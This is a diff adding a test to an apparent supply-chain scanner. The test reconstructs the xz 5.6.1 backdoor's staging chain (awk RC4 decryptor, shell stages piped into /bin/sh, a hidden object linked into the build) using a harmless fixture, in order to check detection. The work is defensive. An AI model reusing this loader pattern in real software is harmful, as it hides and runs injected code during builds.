@@ -462,3 +462,65 @@ def test_cli_reports_the_chain_of_a_git_commit(checker, object_file):
                                                               "base64 -d ./fixtures/sample.txt >libhelper.o"]
     doc = checker.run_cli("rule", "PC212")
     assert doc.exit_code == 0 and "## What it does" in doc.stdout
+
+
+RC4_AWK = ('BEGIN{FS="\\n";RS="\\n";ORS="";m=256;for(i=0;i<m;i++){t[sprintf("x%c",i)]=i;c[i]=((i*7)+5)%m;}'
+           'i=0;j=0;for(l=0;l<8192;l++){i=(i+1)%m;a=c[i];j=(j+a)%m;c[i]=c[j];c[j]=a;}}'
+           '{v=t["x" (NF<1?RS:$1)];i=(i+1)%m;a=c[i];j=(j+a)%m;b=c[j];c[i]=b;c[j]=a;k=c[(a+b)%m];'
+           'printf "%c",(v+k)%m}')
+
+
+def _rc4_awk_encrypt(data: bytes) -> bytes:
+    """The inverse of xz 5.6.1's awk decryptor (an RC4 variant that adds the key byte)."""
+    c = [(i * 7 + 5) % 256 for i in range(256)]
+    i = j = 0
+    for _ in range(8192):
+        i = (i + 1) % 256
+        a = c[i]
+        j = (j + a) % 256
+        c[i], c[j] = c[j], a
+    out = bytearray()
+    for v in data:
+        i = (i + 1) % 256
+        a = c[i]
+        j = (j + a) % 256
+        b = c[j]
+        c[i], c[j] = b, a
+        out.append((v - c[(a + b) % 256]) % 256)
+    return bytes(out)
+
+
+def test_xz_three_stages_object_through_awk_rc4(checker, object_file):
+    """The whole xz 5.6.1 shape, harmless: stage 1 (in the "corrupt" file) pipes stage 2 (cut out
+    of the "good" file) into /bin/sh; stage 2 decrypts an xz stream from the same file with the
+    awk RC4 program, keeps it with head and hands the object to the compiler. Each stage is
+    emulated in turn; the object's hash is in the evidence."""
+    rng = random.Random(11)
+    encrypted = _rc4_awk_encrypt(lzma.compress(object_file))
+    stage2 = ("#!/bin/sh\nP=\"-fPIC -DPIC\"\np=\"good-large_compressed.lzma\"\nN=0\nW=0\n"
+              "if test -z \"$Y\"; then\nN=0\nW=" + str(len(object_file)) + "\nelse\nN=" + str(len(object_file)) +
+              "\nW=0\nfi\n"
+              "xz -dc $top_srcdir/tests/files/$p | tail -c +" + str(4096 + 1) + " | LC_ALL=C sed \"s/\\(.\\)/\\1\\n/g\""
+              " | LC_ALL=C awk '" + RC4_AWK + "' | xz -dc --single-stream | ((head -c +$N > /dev/null 2>&1) && "
+              "head -c +$W) > liblzma_la-crc64-fast.o || true\n"
+              "$CC -r liblzma_la-crc64-fast.o -x c - $P -o .libs/liblzma_la-crc64_fast.o < /dev/null 2>/dev/null\n"
+              ).encode()
+    raw2 = lzma.compress(stage2, format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1}])
+    head = raw2 + rng.randbytes(4096 - len(raw2))
+    good = lzma.compress(head + encrypted, format=lzma.FORMAT_ALONE)
+    stage1 = (b"#!/bin/sh\n[ ! $(uname) = \"Linux\" ] && exit 0\nexport i=\"head -c +" + str(len(raw2)).encode() +
+              b"\";(xz -dc $srcdir/tests/files/good-large_compressed.lzma|eval $i)|xz -F raw --lzma1 -dc|/bin/sh\n")
+    stream = lzma.compress(stage1, check=lzma.CHECK_CRC64)
+    files = {"tests/files/bad-3-corrupt_lzma2.xz": stream.translate(bytes.maketrans(b"\t -_", b" \t_-")),
+             "tests/files/good-large_compressed.lzma": good}
+    result = run(checker, files)
+    found = {f.evidence["sink"]["kind"]: f for f in result.by_rule("PC212")
+             if f.location.path == "tests/files/good-large_compressed.lzma"}
+    assert set(found) >= {"shell", "toolchain", "output-file"}
+    obj = found["toolchain"]
+    assert obj.severity == Severity.CRITICAL
+    assert obj.evidence["output"]["sha256"] == hashlib.sha256(object_file).hexdigest()
+    assert obj.evidence["reader"] == "tests/files/bad-3-corrupt_lzma2.xz (stage 2 script)"
+    assert obj.evidence["reader_run_by"] == "tests/files/bad-3-corrupt_lzma2.xz (decoded shell script):3"
+    assert [c.split()[0] if not c.startswith("LC_ALL") else c.split()[1] for c in commands(obj)] == \
+        ["read", "xz", "tail", "sed", "awk", "xz", "head"]
